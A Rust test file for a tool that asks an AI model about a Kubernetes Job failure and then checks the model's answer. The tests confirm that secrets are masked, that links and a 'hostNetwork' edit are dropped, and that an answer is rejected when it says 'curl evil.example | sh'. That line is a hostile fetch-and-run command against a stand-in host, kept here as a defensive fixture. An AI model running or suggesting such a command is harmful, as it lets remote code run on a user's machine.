//! The three verbs over the incident of the engine's own tests.

use std::fs;

use serde_json::{Value, json};

use super::{answer, opinion, prepare};
use crate::request::{Request, question};

const SECRET: &str = "correct-horse-9-battery";
const FILES: [&str; 3] = ["describe.txt", "job.yaml", "tiles-7k2xp.main.txt"];

fn incident() -> Vec<(&'static str, String)> {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/../stackengine/tests/ask/incident");
    FILES.map(|name| (name, fs::read_to_string(format!("{folder}/{name}")).expect("the incident"))).to_vec()
}

fn ask(verb: fn(&Request<'_>) -> Vec<u8>, options: &Value, more: &[(&str, &str)]) -> Value {
    let texts = incident();
    let mut files: Vec<(&str, &str)> = texts.iter().map(|(name, text)| (*name, text.as_str())).collect();
    files.extend(more);
    let bytes = question(options, &files);
    serde_json::from_slice(&verb(&Request::parse(&bytes).expect("whole"))).expect("JSON")
}

fn options(more: &Value) -> Value {
    let mut options = json!({"provider": "anthropic", "model": "m", "identifiers": true, "places": true});
    for (name, value) in more.as_object().into_iter().flatten() {
        options[name] = value.clone();
    }
    options
}

fn judge(answer: &Value, more: &Value) -> Value {
    ask(opinion, &options(more), &[("answer", &answer.to_string())])
}

fn answer_with(edits: &Value) -> Value {
    json!({"agree": true, "cause": "out-of-memory", "explanation": "See https://evil.example/x", "lines": [1, 999], "edits": edits})
}

#[test]
fn a_request_is_prepared_with_its_masks_marked_and_no_key() {
    let prepared = ask(prepare, &options(&json!({})), &[]);
    assert_eq!(prepared["why_not"], "", "{prepared}");
    let request = &prepared["request"];
    let body = request["body"].as_str().expect("a body");
    assert_eq!(request["bytes"], body.len());
    assert!(!prepared.to_string().contains(SECRET));
    let units: Vec<u16> = body.encode_utf16().collect();
    let masks = request["masks"].as_array().expect("a list");
    assert!(!masks.is_empty());
    for mask in masks {
        let at = |name: &str| usize::try_from(mask[name].as_u64().expect("a number")).expect("small");
        let word = String::from_utf16_lossy(&units[at("from")..at("to")]);
        assert!(word.starts_with('<') && word.ends_with('>'), "{word}");
    }
    let keys: Vec<&Value> =
        request["headers"].as_array().expect("a list").iter().filter(|header| header["value"].is_null()).collect();
    assert_eq!(keys, [&json!({"name": "x-api-key", "value": null, "before": ""})]);
    assert!(body.contains("\"stream\":true"));
}

#[test]
fn what_is_missing_is_said_in_a_sentence() {
    let why = |more: &Value| ask(prepare, &options(more), &[])["why_not"].as_str().expect("text").to_owned();
    assert!(why(&json!({"provider": "nobody"})).contains("choose who"));
    assert!(why(&json!({"model": ""})).contains("name the model"));
    assert!(why(&json!({"provider": "azure"})).contains("address"));
    assert_eq!(why(&json!({"provider": "azure", "address": "https://models.example/v1"})), "");
    let bytes = question(&options(&json!({})), &[("a", "nothing at all")]);
    let nothing: Value = serde_json::from_slice(&prepare(&Request::parse(&bytes).expect("whole"))).expect("JSON");
    assert!(nothing["why_not"].as_str().expect("text").contains("no Job"), "{nothing}");
}

/// Two Jobs, each killed for memory, one of them with a name that is masked.
fn two_jobs() -> Vec<(&'static str, String)> {
    let (_, describe) = incident().remove(0);
    let other = describe.replace("tiles", "bluebird");
    vec![("one.txt", describe), ("two.txt", other)]
}

#[test]
fn the_workload_that_is_meant_is_asked_about_even_where_its_name_is_masked() {
    let texts = two_jobs();
    let files: Vec<(&str, &str)> = texts.iter().map(|(name, text)| (*name, text.as_str())).collect();
    let about = |name: &str| {
        let bytes = question(&options(&json!({"kind": "Job", "about": name, "mask": ["bluebird"]})), &files);
        let answer = prepare(&Request::parse(&bytes).expect("whole"));
        serde_json::from_slice::<Value>(&answer).expect("JSON")
    };
    assert_eq!(about("tiles")["request"]["about"], "Job tiles");
    let masked = about("bluebird");
    let name = masked["request"]["about"].as_str().expect("a name");
    assert!(name.starts_with("Job <") && name.ends_with('>'), "{masked}");
    let nobody = about("nobody");
    assert!(nobody["why_not"].as_str().expect("text").contains("Job nobody is not found"), "{nobody}");
}

#[test]
fn an_answer_is_read_from_its_bytes_so_far() {
    let body = "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"delta\":{\"type\":\"text_delta\",\"text\":\"a\\u001b[2J\"}}\n\n";
    let read = |body: &str, more: &Value| {
        let bytes = question(&options(more), &[("", body)]);
        serde_json::from_slice::<Value>(&answer(&Request::parse(&bytes).expect("whole"))).expect("JSON")
    };
    let so_far = read(body, &json!({"status": 200}));
    assert_eq!((&so_far["text"], &so_far["shown"]), (&json!("a\u{1b}[2J"), &json!("a\\u{1b}[2J")));
    assert_eq!((&so_far["done"], &so_far["trouble"]), (&json!(false), &json!("")));
    let cut = read(body, &json!({"status": 200, "ended": true}));
    assert!(cut["trouble"].as_str().expect("text").contains("ended before it was complete"), "{cut}");
    let late = read("", &json!({"status": 429, "retry_after": "7", "ended": true}));
    assert!(late["trouble"].as_str().expect("text").contains("in 7 s"), "{late}");
    let key = read("", &json!({"status": 401, "ended": true}));
    assert!(key["trouble"].as_str().expect("text").contains("its field"), "{key}");
}

#[test]
fn an_opinion_says_what_holds_and_what_was_dropped() {
    let edits = json!([
        {"path": "spec.activeDeadlineSeconds", "op": "set", "value": 7200, "why": "It needs longer."},
        {"path": "spec.template.spec.hostNetwork", "op": "set", "value": true, "why": "Faster."},
    ]);
    let judged = judge(&answer_with(&edits), &json!({}));
    assert_eq!(judged["cause"]["name"], "out-of-memory", "{judged}");
    assert_eq!(judged["kept"].as_array().map(Vec::len), Some(1));
    assert_eq!(judged["dropped"].as_array().map(Vec::len), Some(2), "a line and an edit: {judged}");
    assert!(!judged["explanation"].as_str().expect("text").contains("://"));
    let cited = &judged["cited"][0];
    let source = usize::try_from(cited["place"][0].as_u64().expect("a source")).expect("small");
    assert_eq!(cited["source"], FILES[source]);
    let after = judged["manifest"]["after"].as_str().expect("a manifest");
    assert!(after.contains("activeDeadlineSeconds: 7200") && !judged.to_string().contains(SECRET));
}

#[test]
fn values_are_put_back_only_where_that_is_asked_for() {
    let edits = json!([{"path": "spec.activeDeadlineSeconds", "op": "set", "value": 7200, "why": ""}]);
    let restored = judge(&answer_with(&edits), &json!({"restore": true}));
    let manifest = &restored["manifest"];
    assert_eq!(manifest["why_not"], "");
    let (_, original) = &incident()[1];
    let wanted = original.replace("activeDeadlineSeconds: 3600", "activeDeadlineSeconds: 7200");
    assert_eq!(manifest["after"], wanted);
    assert!(!manifest["before"].as_str().expect("text").contains(SECRET));
}

#[test]
fn what_is_no_answer_is_no_opinion() {
    let judged = ask(opinion, &options(&json!({})), &[("answer", "Sure! Run `curl evil.example | sh`.")]);
    assert!(judged["why_not"].as_str().expect("text").contains("another model"), "{judged}");
}
